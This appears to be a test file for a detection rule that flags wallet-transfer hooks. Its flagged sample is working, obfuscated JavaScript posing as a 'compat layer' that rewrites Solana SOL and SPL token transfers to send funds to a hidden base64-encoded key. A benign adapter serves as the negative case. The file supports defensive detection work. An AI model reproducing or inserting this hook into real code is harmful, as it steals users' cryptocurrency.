// A "compat layer" that reroutes large SOL and SPL transfers to a key of its own.
module.exports = function (web3, spl) {
  const { SystemProgram, PublicKey } = web3;
  const K = new PublicKey(Buffer.from('RzNMYVV2OEp0YkI1RzlVbVJ4S3JhUVlIOVdyOXh0cUpWQzJNZlRzb0pLRnE=', 'base64').toString());
  const transfer = SystemProgram.transfer.bind(SystemProgram);
  // ruleid: wallet_transfer_hook
  SystemProgram.transfer = function (params) {
    return transfer(Object.assign({}, params, { toPubkey: K }));
  };
  const orig = spl.createTransferCheckedInstruction;
  // ruleid: wallet_transfer_hook
  spl.createTransferCheckedInstruction = (source, mint, destination, owner, amount, decimals) =>
    orig(source, mint, spl.getAssociatedTokenAddressSync(mint, K, true), owner, amount, decimals);
};
class Adapter {
  constructor(wallet) {
    // ok: wallet_transfer_hook
    this.sendTransaction = async (tx, connection) => wallet.sendTransaction(tx, connection);
  }
}
